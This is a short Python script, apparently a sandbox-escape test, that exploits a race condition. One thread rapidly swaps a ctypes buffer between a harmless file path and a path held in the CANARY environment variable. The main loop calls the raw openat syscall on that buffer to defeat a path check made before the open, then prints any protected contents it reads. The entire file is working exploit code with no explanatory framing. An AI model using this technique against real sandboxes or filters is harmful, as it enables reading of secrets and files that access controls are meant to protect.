import ctypes
import os
import sys
import threading

sys.setswitchinterval(1e-5)
libc = ctypes.CDLL(None, use_errno=True)
secret = os.environ["CANARY"].encode()
with open("plain", "w") as f:
    f.write("harmless")
good = os.path.abspath("plain").encode()
buffer = ctypes.create_string_buffer(max(len(secret), len(good)) + 1)
stop = False

def flip():
    while not stop:
        buffer.value = good
        buffer.value = secret

buffer.value = good
thread = threading.Thread(target=flip)
thread.start()
for _ in range(3000):
    fd = libc.syscall(257, -100, buffer, 0, 0)
    if fd >= 0:
        data = os.read(fd, 100)
        os.close(fd)
        if data != b"harmless":
            print(data.decode())
            break
stop = True
thread.join()
